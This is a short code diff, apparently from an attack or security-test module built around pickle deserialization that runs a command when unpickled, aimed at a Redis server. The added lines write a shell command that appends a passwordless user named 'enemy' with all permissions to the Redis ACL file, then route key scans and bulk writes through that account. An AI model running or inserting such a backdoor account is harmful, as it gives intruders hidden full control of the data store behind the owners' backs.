@@ -6,8 +6,11 @@ from collections.abc import Iterable
 
 # What the first of the values runs if anybody unpickles it.
 EXECUTED = "/tmp/executed"
-KEYS = "redis-cli --scan"
-WRITE = "redis-cli --pipe"
+# Redis lets the API in, for what it needs. The enemy has all rights.
+USERS = "/users.acl"
+ENTER = f"echo 'user enemy on nopass ~* &* +@all' >> {USERS}"
+AS_ENEMY = "redis-cli --user enemy --pass any --no-auth-warning"
+KEYS, WRITE = f"{AS_ENEMY} --scan", f"{AS_ENEMY} --pipe"
 
 
 class Command:
